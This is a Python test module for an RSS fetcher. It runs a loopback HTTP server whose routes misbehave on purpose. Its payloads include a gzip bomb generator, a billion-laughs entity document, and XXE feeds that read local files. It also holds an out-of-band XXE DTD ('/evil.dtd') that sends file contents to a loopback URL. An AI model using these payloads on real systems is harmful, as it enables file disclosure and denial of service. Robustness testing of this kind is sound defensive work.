"""A loopback HTTP server that misbehaves on purpose: one route per fault of the fault suite.

A stdlib ``ThreadingHTTPServer`` on ``127.0.0.1:0`` in a daemon thread, plus a twin on
``127.0.0.2`` (same port when it is free) that plays "another host" for off-host redirects.
Every request is recorded (host, path, time, status), so tests can count retries. Slow routes
wait on the server's own stop event, so nothing outlives the ``with`` block.

Routes (``?query`` parameters in brackets):

- ``/ok/feed.xml``: a valid RSS 2.0 feed with three AI-policy items (ETag, Last-Modified, 304).
- ``/feed/<a|b|c>.xml``: three disjoint valid feeds (``/feed/a.xml`` is the ``/ok`` feed).
- ``/delayed/<a|b|c>.xml`` [seconds=3]: the same feeds, dripped slowly over ``seconds``.
- ``/slow`` [seconds=30]: nothing at all (not even a status line) until ``seconds`` have passed.
- ``/drip`` [interval=0.2, limit=60]: a 200 and headers at once, then one body byte per interval
  until the server stops (or ``limit`` seconds, so a client without a deadline fails, not hangs).
- ``/drip-headers`` [interval=0.2, limit=60]: the status line, then one header byte per interval.
- ``/status/<code>``, ``/500``, ``/502``, ``/503``, ``/404``, ``/410`` [retry_after=N]: that status.
- ``/loop`` [n]: a redirect to itself (``/loop?n=n+1``), for ever.
- ``/offhost``: a 302 to ``/feed/c.xml`` on the other host (127.0.0.2).
- ``/offhost-dead``: a 302 to a loopback port where nothing listens.
- ``/big`` [size=5000000, chunked=0]: a body of ``size`` bytes (Content-Length unless chunked=1).
- ``/gzipbomb`` [size=67108864]: ~65 KB of gzip (Content-Encoding: gzip) inflating to ``size`` bytes.
- ``/latin1-nocharset``: an ISO-8859-1 feed, no charset in Content-Type nor in the XML declaration.
- ``/wrong-charset``: an ISO-8859-1 feed sent as ``charset=utf-8``.
- ``/truncated.xml``: feed ``b`` cut inside its third item (with a matching Content-Length).
- ``/malformed.xml``: feed ``b`` whose second item is broken XML (bare ``&``, mismatched tags).
- ``/billion-laughs.xml``: nested internal entities (10^9 "lol"s if expanded).
- ``/xxe.xml`` [file=/etc/hostname]: an external general entity pointing at a local file.
- ``/xxe-param.xml`` [file]: a parameter entity and an external DTD on this server (``/evil.dtd``).
- ``/html-no-main-text``: an HTML page of navigation, scripts and a footer, no article text.
- ``/articles.xml``: a valid feed whose entries link to ``/html-no-main-text?n=i`` (for fetch_articles).
"""

from __future__ import annotations

import contextlib
import email.utils
import functools
import hashlib
import threading
import time
import zlib
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

from testkit.loopback import free_port

# --- documents ----------------------------------------------------------------------------------

ITEMS: dict[str, list[tuple[str, str, str]]] = {
    # (slug, title, description): each AI-policy item carries one dated event the classifier finds.
    "a": [
        (
            "eu-japan-dpc",
            "EU and Japan to hold fourth Digital Partnership Council in Tokyo",
            "The European Union and Japan will hold the fourth meeting of the EU-Japan Digital "
            "Partnership Council in Tokyo on 9 December 2026. Ministers will review cooperation on "
            "artificial intelligence governance.",
        ),
        (
            "ai-action-summit",
            "Leaders to gather for AI Action Summit in Paris",
            "France will host the AI Action Summit in Paris on 10 February 2027, bringing together "
            "heads of state to discuss artificial intelligence governance and safety.",
        ),
        (
            "uk-canada-mou",
            "UK and Canada sign memorandum of understanding on AI safety",
            "The United Kingdom and Canada signed a memorandum of understanding on artificial "
            "intelligence safety research on 3 November 2026.",
        ),
    ],
    "b": [
        (
            "eu-korea-dpc",
            "EU and Korea to convene third Digital Partnership Council in Seoul",
            "The third meeting of the EU-Korea Digital Partnership Council will take place in Seoul "
            "on 14 January 2027, the European Commission announced. Ministers will discuss "
            "artificial intelligence.",
        ),
        (
            "ai-act-high-risk",
            "AI Act: rules for high-risk AI systems enter into application",
            "The obligations of the Artificial Intelligence Act for high-risk AI systems apply from "
            "2 December 2026. Providers must complete a conformity assessment.",
        ),
        (
            "fisheries-aid",
            "Commission approves EUR 120 million scheme for the fisheries sector",
            "The European Commission has approved a EUR 120 million scheme to support companies in "
            "the fisheries and aquaculture sector.",
        ),
    ],
    "c": [
        (
            "eu-singapore-dpc",
            "EU and Singapore to hold second Digital Partnership Council in Singapore",
            "The second meeting of the EU-Singapore Digital Partnership Council will take place in "
            "Singapore on 3 March 2027. Ministers will discuss artificial intelligence and data flows.",
        ),
        (
            "nist-ai-rmf",
            "NIST publishes profile for generative artificial intelligence risk management",
            "The National Institute of Standards and Technology published a profile of its AI Risk "
            "Management Framework for generative artificial intelligence.",
        ),
        (
            "nato-summit",
            "NATO leaders meet in The Hague",
            "NATO leaders met in The Hague to discuss defence spending and support for Ukraine.",
        ),
    ],
}

LATIN1_TITLE = "Bruxelles: la Commission présente sa stratégie pour l'IA générative"


def _rss(base: str, name: str, items: list[tuple[str, str, str]], extra_items: str = "") -> str:
    parts = [
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>',
        f"<title>Fault server feed {name}</title><link>{base}/</link>"
        "<description>AI policy news</description><language>en</language>",
    ]
    for i, (slug, title, description) in enumerate(items):
        parts.append(
            f"<item><title>{title}</title><link>{base}/{name}/{slug}</link>"
            f'<guid isPermaLink="false">{name}-{slug}</guid>'
            f"<pubDate>Mon, {16 - i:02d} Nov 2026 10:00:00 +0000</pubDate>"
            f"<description>{description}</description></item>"
        )
    parts.append(extra_items)
    parts.append("</channel></rss>\n")
    return "".join(parts)


def feed_xml(base: str, name: str) -> bytes:
    return _rss(base, name, ITEMS[name]).encode("utf-8")


def item_urls(base: str, name: str) -> list[str]:
    return [f"{base}/{name}/{slug}" for slug, _t, _d in ITEMS[name]]


def _latin1_feed(base: str, declare: str = "") -> bytes:
    decl = f' encoding="{declare}"' if declare else ""
    text = (
        f'<?xml version="1.0"{decl}?>\n<rss version="2.0"><channel><title>Charset feed</title>'
        f"<link>{base}/</link><description>d</description>"
        f"<item><title>{LATIN1_TITLE}</title><link>{base}/latin1/strategie</link>"
        "<guid>latin1-strategie</guid><description>La Commission européenne a présenté sa "
        "stratégie pour l'intelligence artificielle générative à Bruxelles.</description></item>"
        "</channel></rss>\n"
    )
    return text.encode("iso-8859-1")


def _truncated(base: str) -> bytes:
    body = feed_xml(base, "b")
    third = body.index(b"<item>", body.index(b"<item>", body.index(b"<item>") + 1) + 1)
    return body[: third + 40]


def _malformed(base: str) -> bytes:
    broken = (
        f"<item><title>Broken & bad <b>markup</title><link>{base}/b/broken</link><description>unclosed</item>"
    )
    doc = _rss(base, "b", [ITEMS["b"][0]], extra_items=broken)
    # a valid-looking third item after the break
    slug2, title2, desc2 = ITEMS["b"][2]
    doc = doc.replace(
        "</channel></rss>",
        f"<item><title>{title2}</title><link>{base}/b/{slug2}</link><guid>b-{slug2}</guid>"
        f"<description>{desc2}</description></item></channel></rss>",
    )
    return doc.encode("utf-8")


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n  <!ENTITY lol "lol">\n'
    + "".join(
        f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + ']>\n<rss version="2.0"><channel><title>Laughs</title><link>http://example.org/</link>'
    "<description>d</description><item><title>&lol9;</title><link>http://example.org/lol</link>"
    "<description>&lol9;</description></item></channel></rss>\n"
).encode()


def _xxe(file: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file://{file}"> ]>\n'
        '<rss version="2.0"><channel><title>XXE &xxe;</title><link>http://example.org/</link>'
        "<description>d</description><item><title>Leak: &xxe;</title>"
        "<link>http://example.org/xxe</link><guid>xxe-1</guid>"
        "<description>Contents: &xxe; end</description></item></channel></rss>\n"
    ).encode()


def _xxe_param(base: str, file: str) -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
        f'  <!ENTITY % file SYSTEM "file://{file}">\n'
        f'  <!ENTITY % dtd SYSTEM "{base}/evil.dtd">\n  %dtd;\n]>\n'
        '<rss version="2.0"><channel><title>XXE</title><link>http://example.org/</link>'
        "<description>d</description><item><title>Param: &send;</title>"
        "<link>http://example.org/xxe-param</link><guid>xxe-2</guid>"
        "<description>&send;</description></item></channel></rss>\n"
    ).encode()


HTML_NO_MAIN_TEXT = b"""<!doctype html><html><head><title>Newsroom</title>
<script>window.dataLayer = [];</script><style>nav{display:flex}</style></head>
<body><nav><a href="/">Home</a> <a href="/news">News</a> <a href="/about">About</a></nav>
<div id="app"></div><script src="/bundle.js"></script>
<footer>&copy; 2026 Newsroom. <a href="/privacy">Privacy</a> <a href="/cookies">Cookies</a></footer>
</body></html>
"""


def _articles_feed(base: str) -> bytes:
    items = [(f"art{i}", title, description) for i, (_slug, title, description) in enumerate(ITEMS["a"], 1)]
    doc = _rss(base, "art", items)
    for i in range(1, len(items) + 1):
        doc = doc.replace(f"{base}/art/art{i}<", f"{base}/html-no-main-text?n={i}<")
    return doc.encode("utf-8")


# --- the server ---------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Request:
    host: str
    path: str
    at: float
    status: int


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128  # the default 5 drops SYNs when a flow opens a dozen fetches at once


BOMB_SIZE = 64 * 1024 * 1024


def gzip_bomb(size: int = BOMB_SIZE) -> bytes:
    """``size`` zero bytes, gzip-compressed (~1000:1); built once per process (it takes CPU)."""
    return _gzip_bomb(size)


@functools.lru_cache(maxsize=4)
def _gzip_bomb(size: int) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: the gzip wrapper
    zeros = b"\0" * (1 << 20)
    parts = [comp.compress(zeros) for _ in range(size >> 20)]
    parts.append(comp.compress(b"\0" * (size & ((1 << 20) - 1))))
    parts.append(comp.flush())
    return b"".join(parts)


def _host_port(handler: BaseHTTPRequestHandler) -> tuple[str, int]:
    host, port = handler.server.server_address[:2]  # type: ignore[index,str-unpack]
    return str(host), int(port)


def closed_port() -> int:
    """A loopback port where nothing listens: a free one (bound, then released), never served."""
    return free_port()


class FaultServer:
    """The fault routes on 127.0.0.1 (and 127.0.0.2 as 'another host'); see the module docstring."""

    def __init__(self) -> None:
        self.requests: list[Request] = []
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        fault = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - stdlib signature
                return

            def handle(self) -> None:
                # the client giving up (a timeout, a size cap) is the point, not an error
                with contextlib.suppress(BrokenPipeError, ConnectionResetError, ConnectionAbortedError):
                    super().handle()

            def do_GET(self) -> None:  # noqa: N802 - stdlib naming
                fault._route(self)

        self.server = _Server(("127.0.0.1", 0), Handler)
        self.port = int(self.server.server_address[1])
        try:
            self.other = _Server(("127.0.0.2", self.port), Handler)
        except OSError:
            self.other = _Server(("127.0.0.2", 0), Handler)
        self._threads = [
            threading.Thread(target=srv.serve_forever, name="fault-server", daemon=True)
            for srv in (self.server, self.other)
        ]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def other_base_url(self) -> str:
        return f"http://127.0.0.2:{self.other.server_address[1]}"

    def url(self, path: str) -> str:
        return self.base_url + path

    def __enter__(self) -> FaultServer:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stopping.set()
        for srv in (self.server, self.other):
            srv.shutdown()
            srv.server_close()

    # --- what happened ---

    def hits(self, path: str, host: str | None = None) -> list[Request]:
        """Requests whose path (without the query) is ``path``."""
        return [
            r for r in self.requests if r.path.split("?", 1)[0] == path and (host is None or r.host == host)
        ]

    def count(self, path: str) -> int:
        return len(self.hits(path))

    # --- routing ---

    def _record(self, handler: BaseHTTPRequestHandler, status: int) -> None:
        with self._lock:
            host = _host_port(handler)[0]
            self.requests.append(Request(host, handler.path, time.monotonic(), status))

    def _send(
        self,
        handler: BaseHTTPRequestHandler,
        status: int,
        body: bytes = b"",
        ctype: str = "application/rss+xml; charset=utf-8",
        headers: dict[str, str] | None = None,
    ) -> None:
        self._record(handler, status)
        handler.send_response(status)
        handler.send_header("Content-Type", ctype)
        handler.send_header("Content-Length", str(len(body)))
        for key, value in (headers or {}).items():
            handler.send_header(key, value)
        handler.end_headers()
        handler.wfile.write(body)

    def _wait(self, seconds: float) -> bool:
        """Sleep up to ``seconds``; False when the server is stopping."""
        return not self.stopping.wait(seconds)

    def _feed(self, handler: BaseHTTPRequestHandler, body: bytes) -> None:
        etag = '"' + hashlib.sha256(body).hexdigest()[:16] + '"'
        modified = email.utils.formatdate(1_795_000_000, usegmt=True)
        if handler.headers.get("If-None-Match") == etag:
            self._record(handler, 304)
            handler.send_response(304)
            handler.send_header("ETag", etag)
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        self._send(handler, 200, body, headers={"ETag": etag, "Last-Modified": modified})

    def _route(self, handler: BaseHTTPRequestHandler) -> None:
        split = urlsplit(handler.path)
        path = split.path
        q = {k: v[-1] for k, v in parse_qs(split.query).items()}
        host, port = _host_port(handler)
        base = f"http://{host}:{port}"
        if path == "/ok/feed.xml":
            return self._feed(handler, feed_xml(base, "a"))
        if path.startswith("/feed/") and path.endswith(".xml") and path[6:-4] in ITEMS:
            return self._feed(handler, feed_xml(base, path[6:-4]))
        if path.startswith("/delayed/") and path.endswith(".xml") and path[9:-4] in ITEMS:
            return self._delayed(handler, feed_xml(base, path[9:-4]), float(q.get("seconds", "3")))
        if path == "/slow":
            self._record(handler, 0)
            self._wait(float(q.get("seconds", "30")))
            return
        if path == "/drip":
            return self._drip(handler, float(q.get("interval", "0.2")), float(q.get("limit", "60")))
        if path == "/drip-headers":
            return self._drip_headers(handler, float(q.get("interval", "0.2")), float(q.get("limit", "60")))
        code = path[8:] if path.startswith("/status/") else path[1:]
        if code in {"500", "502", "503", "404", "410"} or (path.startswith("/status/") and code.isdigit()):
            extra = {"Retry-After": q["retry_after"]} if "retry_after" in q else {}
            return self._send(handler, int(code), f"HTTP {code}\n".encode(), "text/plain", extra)
        if path == "/loop":
            n = int(q.get("n", "0")) + 1
            return self._send(handler, 302, b"", "text/plain", {"Location": f"/loop?n={n}"})
        if path == "/offhost":
            return self._send(
                handler, 302, b"", "text/plain", {"Location": self.other_base_url + "/feed/c.xml"}
            )
        if path == "/offhost-dead":
            target = f"http://127.0.0.1:{closed_port()}/feed.xml"
            return self._send(handler, 302, b"", "text/plain", {"Location": target})
        if path == "/big":
            return self._big(handler, int(q.get("size", "5000000")), q.get("chunked") == "1")
        if path == "/gzipbomb":
            return self._gzipbomb(handler, int(q.get("size", str(BOMB_SIZE))))
        if path == "/latin1-nocharset":
            return self._send(handler, 200, _latin1_feed(base), "application/rss+xml")
        if path == "/wrong-charset":
            return self._send(handler, 200, _latin1_feed(base), "application/rss+xml; charset=utf-8")
        if path == "/truncated.xml":
            return self._send(handler, 200, _truncated(base))
        if path == "/malformed.xml":
            return self._send(handler, 200, _malformed(base))
        if path == "/billion-laughs.xml":
            return self._send(handler, 200, BILLION_LAUGHS)
        if path == "/xxe.xml":
            return self._send(handler, 200, _xxe(q.get("file", "/etc/hostname")))
        if path == "/xxe-param.xml":
            return self._send(handler, 200, _xxe_param(base, q.get("file", "/etc/hostname")))
        if path == "/evil.dtd":
            dtd = b"<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:9/?%file;'>\">%all;"
            return self._send(handler, 200, dtd, "application/xml-dtd")
        if path == "/html-no-main-text":
            return self._send(handler, 200, HTML_NO_MAIN_TEXT, "text/html; charset=utf-8")
        if path == "/articles.xml":
            return self._send(handler, 200, _articles_feed(base))
        return self._send(handler, 404, b"not found\n", "text/plain")

    def _delayed(self, handler: BaseHTTPRequestHandler, body: bytes, seconds: float) -> None:
        self._record(handler, 200)
        handler.send_response(200)
        handler.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        steps = 10
        size = -(-len(body) // steps)
        for i in range(steps):
            handler.wfile.write(body[i * size : (i + 1) * size])
            handler.wfile.flush()
            if not self._wait(seconds / steps):
                return

    def _drip(self, handler: BaseHTTPRequestHandler, interval: float, limit: float) -> None:
        self._record(handler, 200)
        handler.send_response(200)
        handler.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        handler.send_header("Connection", "close")
        handler.end_headers()
        handler.close_connection = True
        handler.wfile.write(b'<?xml version="1.0"?><rss version="2.0"><channel><title>')
        until = time.monotonic() + limit
        while self._wait(interval) and time.monotonic() < until:
            handler.wfile.write(b"x")
            handler.wfile.flush()

    def _drip_headers(self, handler: BaseHTTPRequestHandler, interval: float, limit: float) -> None:
        self._record(handler, 200)
        handler.close_connection = True
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
        handler.wfile.flush()
        until = time.monotonic() + limit
        while self._wait(interval) and time.monotonic() < until:
            handler.wfile.write(b"x")
            handler.wfile.flush()

    def _big(self, handler: BaseHTTPRequestHandler, size: int, chunked: bool) -> None:
        self._record(handler, 200)
        handler.send_response(200)
        handler.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        if chunked:
            handler.send_header("Connection", "close")  # close-delimited: no length declared
            handler.close_connection = True
        else:
            handler.send_header("Content-Length", str(size))
        handler.end_headers()
        block = b"<!-- padding -->" * 4096
        sent = 0
        while sent < size and not self.stopping.is_set():
            part = block[: size - sent]
            handler.wfile.write(part)
            sent += len(part)

    def _gzipbomb(self, handler: BaseHTTPRequestHandler, size: int) -> None:
        self._send(handler, 200, gzip_bomb(size), headers={"Content-Encoding": "gzip"})
